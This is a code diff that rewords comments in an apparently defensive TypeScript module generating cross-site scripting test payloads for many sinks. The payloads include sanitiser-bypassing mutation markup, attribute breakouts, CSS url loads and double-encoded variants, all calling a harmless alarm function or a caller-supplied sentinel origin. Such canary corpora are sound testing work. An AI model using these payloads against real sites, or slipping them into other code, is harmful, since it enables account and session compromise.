@@ -1,35 +1,35 @@
-/** Where a payload would come to life, if a text were put there unescaped. */
+/** The place in which a payload would run if it were inserted unescaped. */
 export type Sink =
-  /** Into an element's content (`innerHTML`). */
+  /** Element content (`innerHTML`). */
   | 'html'
-  /** Into a document while it is parsed, where scripts run. */
+  /** A document while it is parsed, where scripts run. */
   | 'document'
-  /** Between the quotes of an attribute, double or single. */
+  /** A quoted attribute value, with double or single quotes. */
   | 'double'
   | 'single'
-  /** Into the text of a script: between quotes, in a template literal, as bare JSON. */
+  /** A script: inside quotes, in a template literal, or as bare JSON. */
   | 'string'
   | 'apostrophes'
   | 'template'
   | 'json'
-  /** As the address of a link or of a frame. */
+  /** The address of a link or of a frame. */
   | 'link'
   | 'frame'
-  /** As Markdown that nobody cleans. */
+  /** Markdown that is not sanitised. */
   | 'markdown'
-  /** Into a style sheet, or into the style of an element. */
+  /** A style sheet, or the style of an element. */
   | 'sheet'
   | 'style'
-  /** Into an element whose text is read by other rules. */
+  /** An element with parsing rules of its own. */
   | 'title'
   | 'textarea'
   | 'noscript'
-  /** As HTML once something has decoded it: entities, percents, escapes, full width. */
+  /** HTML after decoding entities, percent-encoding, escapes or full-width characters. */
   | 'entities'
   | 'percents'
   | 'escapes'
   | 'width'
-  /** Into a line of a calendar file, into a header of a mail. */
+  /** A line of a calendar file, or a header of a mail. */
   | 'calendar'
   | 'header'
 
@@ -38,7 +38,7 @@ export interface Payload {
   text: string
 }
 
-/** The function that every payload tries to call, with its number. */
+/** The function that every payload tries to call with its number. */
 export const alarm = 'xssAlarm'
 
 type Write = (call: string, url: string) => string
@@ -47,7 +47,7 @@ const svg = (call: string) =>
   Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`).toString('base64')
 
 const written: [Sink, Write][] = [
-  // Tags, in the ways that browsers put up with.
+  // Tags in the malformed variants that browsers accept.
   ['document', (call) => `<script>${call}</script>`],
   ['document', (call) => `<ScRiPt\n>${call}</sCrIpT\t>`],
   ['document', (_call, url) => `<script src=${url}.js></script>`],
@@ -73,13 +73,13 @@ const written: [Sink, Write][] = [
   ['html', (_call, url) => `<meta http-equiv=refresh content="0;url=${url}">`],
   ['html', (_call, url) => `<style>@import '${url}.css';</style>`],
   ['html', (_call, url) => `<b style="background:url(${url}.png)">bold</b>`],
-  // SVG and MathML, whose rules are others.
+  // SVG and MathML, which have parsing rules of their own.
   ['html', (call) => `<svg onload=${call}></svg>`],
   ['html', (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s></svg>`],
   ['html', (call) => `<svg><a xlink:href="javascript:${call}"><text x=9 y=9>here</text></a></svg>`],
   ['document', (call) => `<svg><script>${call.replace('(', '&#40;').replace(')', '&#41;')}</script></svg>`],
   ['html', (call) => `<math href="javascript:${call}"><mi>x</mi></math>`],
-  // What cleaners read in one way and browsers in another.
+  // Markup that sanitisers and browsers parse differently.
   ['html', (call) => `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=${call}>">`],
   ['html', (call) => `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`],
   ['html', (call) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`],
@@ -88,7 +88,7 @@ const written: [Sink, Write][] = [
   ['noscript', (call) => `<p title="</noscript><img src=x onerror=${call}>">`],
   ['title', (call) => `</title><img src=x onerror=${call}>`],
   ['textarea', (call) => `</textarea><img src=x onerror=${call}>`],
-  // Out of attributes, scripts and templates.
+  // Breaks out of attributes, scripts and templates.
   ['double', (call) => `"><img src=x onerror=${call}>`],
   ['double', (call) => `" autofocus tabindex=0 onfocus="${call}`],
   ['single', (call) => `' autofocus tabindex=0 onfocus='${call}`],
@@ -108,7 +108,7 @@ const written: [Sink, Write][] = [
   // Styles.
   ['sheet', (_call, url) => `}*{background:url("${url}.png")}</style>`],
   ['style', (_call, url) => `red;background:url(${url}.png);x:expression(1)`],
-  // Decoded once too often.
+  // Text that is decoded once too often.
   ['entities', (call) => `&lt;img src=x onerror=${call}&gt;`],
   ['percents', (call) => `%3Cimg%20src%3Dx%20onerror%3D${call}%3E`],
   ['escapes', (call) => `\\u003cimg src=x onerror=${call}\\u003e\u202E<img src=x onerror=${call}>\u2066`],
@@ -121,6 +121,6 @@ const written: [Sink, Write][] = [
   ],
 ]
 
-/** All payloads; the one at place n calls the alarm with n, or asks `sentinel` (an origin) for `/n`. */
+/** All payloads. Payload n calls the alarm with n, or requests `/n` from the origin `sentinel`. */
 export const payloadsFor = (sentinel: string): Payload[] =>
   written.map(([sink, write], index) => ({ sink, text: write(`${alarm}(${index})`, `${sentinel}/${index}`) }))
